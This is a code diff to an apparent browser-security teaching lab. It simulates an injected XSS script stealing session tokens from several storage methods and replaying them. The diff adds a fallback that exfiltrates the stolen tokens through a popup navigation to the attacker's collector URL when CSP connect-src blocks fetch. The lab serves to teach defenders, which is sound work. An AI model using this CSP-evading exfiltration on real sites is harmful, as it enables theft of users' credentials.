@@ -2,10 +2,11 @@
 // Lesson 4's entry module ("Where the browser keeps it"): signs the lab account in five ways
 // (localStorage, sessionStorage, a closure, an HttpOnly cookie, a backend-for-frontend), runs the
 // attacker's injected script — inline, so the strict CSP refuses it, or as a trusted script ("2b")
-// — shows what it could read and send, and asks the attacker's machine to replay the loot.
+// — shows what it could read and send (by fetch, or by navigating a window when connect-src
+// refuses the fetch), and asks the attacker's machine to replay the loot.
 
 import { bind, part, partAs, parts, partsAs, problem, randomId, send, whenHydrated } from "../../../browser/kit.js";
-import { credentials, showGoal, solved } from "../../lab.js";
+import { credentials, guarded, showGoal, solved } from "../../lab.js";
 
 /**
  * What the injected script reports back to the lab, by a `tokenshop:injected` event.
@@ -69,9 +70,19 @@ function injected(collector, drop) {
   // fetch and not the first one's wrapper.
   const page = /** @type {Window & { tokenshopRealFetch?: typeof fetch }} */ (window);
   const realFetch = page.tokenshopRealFetch = page.tokenshopRealFetch ?? window.fetch;
+  // When connect-src blocks the fetch, the loot leaves by navigation instead: a window opened on
+  // the collector with the loot in its URL. No CSP directive governs where a page may navigate
+  // (navigate-to was proposed and never shipped), so this works under the strictest policy.
+  const navigate = () => {
+    const url = `${collector}/attacker/collect/${drop}?items=${encodeURIComponent(JSON.stringify(items))}`;
+    const opened = window.open(url, `collector-${drop}`, "popup,width=480,height=260");
+    if (!opened) return "blocked: the browser refused to open a window (a popup blocker)";
+    setTimeout(() => opened.close(), 3000);
+    return "navigated";
+  };
   const sendLoot = () => realFetch(`${collector}/attacker/collect/${drop}`, {
     method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ items }),
-  }).then(() => "sent", (e) => `blocked: ${e.message}`);
+  }).then(() => "sent", () => navigate());
   /** @param {object} detail */
   const report = (detail) => document.dispatchEvent(new CustomEvent("tokenshop:injected", { detail }));
   window.fetch = (input, init) => {
@@ -141,8 +152,13 @@ function startXss(demo) {
   };
   /** @type {ReturnType<typeof setInterval> | undefined} */
   let memoryApp;
+  /** The lesson's "What this shows", kept hidden until the learner has run the attack. */
+  const reveal = () => {
+    const shows = document.querySelector('[data-lab="xss-shows"]');
+    if (shows instanceof HTMLElement) shows.hidden = false;
+  };
 
-  part(demo, "signin").addEventListener("click", async () => {
+  part(demo, "signin").addEventListener("click", guarded(demo, async () => {
     const account = await credentials();
     /** @type {[string, Storage | null][]} */
     const kept = [["local", localStorage], ["session", sessionStorage], ["memory", null]];
@@ -173,9 +189,9 @@ function startXss(demo) {
     status.textContent = `Signed in ${cells.filter((td) => td.textContent?.startsWith("yes")).length} of ${cells.length} ways (the table says how each went). Next: run the injected script.`;
     inject.disabled = false;
     if (anyway) anyway.disabled = false;
-  });
+  }));
 
-  document.addEventListener("tokenshop:injected", async (event) => {
+  document.addEventListener("tokenshop:injected", guarded(demo, async (/** @type {Event} */ event) => {
     if (!(event instanceof CustomEvent)) return;
     /** @type {Injected} */
     const { read, rode, memory, sent } = event.detail;
@@ -186,24 +202,33 @@ function startXss(demo) {
     }
     if (memory) set("memory", "read", memory);
     result.textContent = sent === "sent"
-      ? "The injected script ran and sent its loot to the attacker's collector."
-      : `The injected script ran, but could not send its loot: ${sent} (connect-src allows only this origin).`;
-    const loot = await send("GET", `/learn/lab/xss/attacker/${drop}`);
+      ? "The injected script ran and sent its loot to the attacker's collector with fetch: no CSP stood in its way."
+      : sent === "navigated"
+        ? "The injected script ran. connect-src refused its fetch to the attacker's origin, so it opened a window on the collector with the loot in the URL: "
+          + "a navigation, which no CSP directive governs. CSP narrowed the ways out; it did not close them."
+        : `The injected script ran, but could not send its loot: ${sent}.`;
+    // A navigation reaches the collector as its window loads, a moment later: ask a few times.
     /** @type {Loot[]} */
-    const got = loot.data ?? [];
+    let got = [];
+    for (let tries = sent === "navigated" ? 10 : 1; tries > 0 && got.length === 0; tries -= 1) {
+      if (sent === "navigated") await new Promise((resolve) => setTimeout(resolve, 500));
+      got = (await send("GET", `/learn/lab/xss/attacker/${drop}`)).data ?? [];
+    }
     for (const store of Object.values(STORE_OF)) {
       const mine = got.filter((l) => STORE_OF[l.from] === store);
       set(store, "sent", mine.length ? mine.map((l) => (l.kind === "rode" ? "a note of what it did" : `the ${l.kind} token`)).join(", ") : "nothing received");
     }
     replay.disabled = got.length === 0;
     demo.dataset.injected = "true";
-  });
+  }));
 
   document.addEventListener("securitypolicyviolation", (event) => {
     if (!demo.dataset.injecting || !event.violatedDirective.startsWith("script-src")) return;
-    result.textContent = `The browser refused the injected inline script (${event.violatedDirective}): it carries no nonce, so nothing of it ran. `
-      + "That is what a strict CSP buys. Try 2b: a script that got in another way (say a compromised library from this origin).";
+    result.textContent = `The browser refused the injected inline script (${event.violatedDirective}): it carries no nonce, so nothing of it ran and nothing was stolen. `
+      + "That is what a strict CSP buys. Now try 2b: a script that got in another way (say a compromised library from this origin), which the CSP cannot tell from the page's own.";
     demo.dataset.cspBlocked = "true";
+    reveal();
+    solved(`the strict CSP refused the injected inline script (${event.violatedDirective}), so the theft failed before it began`);
   });
 
   inject.addEventListener("click", () => {
@@ -215,7 +240,7 @@ function startXss(demo) {
   });
   anyway?.addEventListener("click", () => injected(collector, drop));
 
-  replay.addEventListener("click", async () => {
+  replay.addEventListener("click", guarded(demo, async () => {
     const replayed = await send("POST", `/learn/lab/xss/attacker/${drop}/replay`);
     /** @type {Outcome[]} */
     const outcomes = replayed.data ?? [];
@@ -227,11 +252,12 @@ function startXss(demo) {
       set(store, "lasts", mine.map((o) => o.lasts).filter(Boolean).join("; "));
     }
     status.textContent = `The attacker replayed ${outcomes.length} stolen credentials from elsewhere: ${worked.length} worked (the table's last columns say which).`;
+    reveal();
     if (worked.length) {
       const first = worked[0];
       solved(`the ${first.kind} token from ${first.from} worked from the attacker's machine (${first.said})`);
     }
-  });
+  }));
   demo.dataset.ready = "true";
 }
 
